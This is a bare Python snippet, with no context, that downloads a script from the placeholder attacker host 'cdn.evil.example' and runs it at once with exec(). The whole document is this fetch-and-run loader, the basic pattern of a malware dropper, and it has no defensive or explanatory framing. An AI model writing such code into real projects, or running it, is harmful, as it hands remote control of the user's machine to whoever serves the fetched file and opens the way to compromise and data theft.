import urllib.request

with urllib.request.urlopen("https://cdn.evil.example/a.py") as r:
    exec(r.read())
